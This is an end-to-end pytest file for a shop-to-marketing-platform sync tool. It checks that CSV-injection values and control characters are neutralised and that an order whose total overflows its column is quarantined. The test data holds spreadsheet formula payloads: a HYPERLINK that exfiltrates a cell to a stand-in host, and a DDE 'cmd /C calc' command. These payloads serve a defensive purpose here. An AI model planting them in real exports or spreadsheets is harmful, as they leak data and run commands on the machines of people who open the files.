"""End to end: bad data in a real Oscar shop is neutralised or quarantined, and never stops a sync.

Formula-like names (CSV injection), control characters, an over-refunded order, an order total
beyond the column's digits (Oscar's checkout on SQLite), and one shopper under two spellings of
their email: ``sync all`` drains, the platform gets safe values, a bad record is ``FAILED`` with
its reason, and everything else lands.
"""

from __future__ import annotations

from decimal import Decimal
from pathlib import Path

import pytest
from django.db import connection

from dotsync.models import Contact, Order, SyncStatus
from dotsync.testing.shop import make_customer, make_product, place_order
from tests.e2e.conftest import run_sync
from tests.e2e.platform_view import view

pytestmark = pytest.mark.django_db(transaction=False)


def test_formula_names_are_neutralised_in_the_csv_and_its_archive(
    shop, sandbox, accounts, settings, django_capture_on_commit_callbacks
):
    store = shop.scope.main_en
    with django_capture_on_commit_callbacks(execute=True):
        mallory = make_customer(
            "mallory@example.com",
            '=HYPERLINK("http://x.example/?"&A1,"win")',
            "-2+3\x00\x07",
            address={"line4": "@SUM(1+1)", "line1": "\t+tab"},
        )
        evil = make_product("Evil\x1b tee", "12.00", categories=["=cmd|' /C calc'!A0"])
        place_order(mallory, [(evil, 1)], store, status="processing", refunded="20.00")
    run_sync()

    main = view(sandbox, accounts["main"])
    fields = main.contacts["mallory@example.com"]["data_fields"]
    assert fields["FIRSTNAME"] == '\'=HYPERLINK("http://x.example/?"&A1,"win")'
    assert fields["LASTNAME"] == "'-2+3"  # neutralised, NUL and BEL stripped
    assert fields["MOST_PUR_CATEGORY"] == "'=cmd|' /C calc'!A0"
    assert fields["TOTAL_REFUND"] == pytest.approx(20.0)  # numbers stay numbers
    order = next(r["json"] for r in main.insight["Orders"].values() if r["email"] == "mallory@example.com")
    assert order["orderTotal"] == pytest.approx(12.00 + 4.95 - 20.00)  # over-refunded: negative
    assert order["products"][0]["name"] == "Evil tee"  # ESC stripped
    assert order["products"][0]["categories"] == ["=cmd|' /C calc'!A0"]  # JSON is not a spreadsheet

    archived = list(Path(settings.VAR_DIR, "export", "email", "archive").glob("*.csv"))
    assert archived
    text = "".join(p.read_text(encoding="utf-8") for p in archived)
    assert '"\'=HYPERLINK(""http://x.example/?""&A1,""win"")"' in text
    assert '"\'-2+3"' in text and "\x00" not in text and "\x07" not in text
    for line in text.splitlines():
        for cell in line.split(","):
            assert not cell.startswith(("=", "+", "@", "\t")), line


@pytest.mark.skipif(
    connection.vendor != "sqlite", reason="PostgreSQL refuses the 13-digit total on write, so no read fails"
)
def test_a_total_beyond_the_column_is_quarantined_and_the_rest_syncs(
    shop, sandbox, accounts, django_capture_on_commit_callbacks
):
    store = shop.scope.main_en
    with django_capture_on_commit_callbacks(execute=True):
        whale = make_customer("whale@example.com", "Wes", "Whale")
        yacht = make_product("Yacht", "9999999999.99")
        # Oscar's own checkout: 9,999,999,999.99 + 4.95 shipping is 13 digits in a 12-digit column
        huge = place_order(whale, [(yacht, 1)], store, status="processing")
        fine = place_order(whale, [(shop.products["mug"], 1)], store, status="processing")
    summary = run_sync()
    assert summary["drained"]

    row = Order.objects.get(order_id=huge.pk)
    assert row.sync_status == SyncStatus.FAILED
    assert "total_incl_tax" in row.sync_message and "correct it in the shop" in row.sync_message
    main = view(sandbox, accounts["main"])
    assert str(huge.number) not in main.keys("Orders")
    assert str(fine.number) in main.keys("Orders")
    assert str(shop.orders["alice_en"].number) in main.keys("Orders")  # every other order still lands
    whale_fields = main.contacts["whale@example.com"]["data_fields"]
    assert whale_fields["NUMBER_OF_ORDERS"] == 1  # the unreadable order is left out of sales data
    assert whale_fields["TOTAL_SPEND"] == pytest.approx(float(fine.total_incl_tax))
    assert "alice@example.com" in main.contacts
    assert Contact.objects.get(email="whale@example.com").sync_status == SyncStatus.IMPORTED
    assert Decimal(str(whale_fields["TOTAL_SPEND"])) < Decimal("1e10")
